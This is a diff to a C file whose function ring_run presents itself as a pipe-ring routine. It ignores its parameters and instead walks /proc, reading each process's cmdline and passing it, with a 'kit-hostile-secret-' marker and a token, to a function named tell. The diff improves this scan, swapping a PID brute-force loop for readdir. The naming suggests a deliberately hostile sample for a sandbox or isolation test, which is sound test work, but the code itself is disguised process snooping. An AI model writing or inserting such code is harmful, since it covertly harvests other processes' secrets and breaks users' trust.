@@ -8,6 +8,7 @@
  */
 #include "pipe_ring.h"
 
+#include <dirent.h>
 #include <fcntl.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -36,16 +37,16 @@ int ring_run(unsigned nodes, unsigned laps, uint64_t *token, ring_step step, voi
 	(void)laps;
 	(void)step;
 	(void)ctx;
-	for (int pid = 1; pid < 4194304; pid++) {
-		char path[64];
-		snprintf(path, sizeof path, "/proc/%d", pid);
-		if (pid % 64 == 0 && pid > 70000)
-			break;
-		snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
+	DIR *processes = opendir("/proc");
+	for (struct dirent *process; processes && (process = readdir(processes));) {
+		char path[300];
+		snprintf(path, sizeof path, "/proc/%s/cmdline", process->d_name);
 		tell(path,
 		     "kit-hostile-"
 		     "secret-",
 		     token);
 	}
+	if (processes)
+		closedir(processes);
 	return 0;
 }
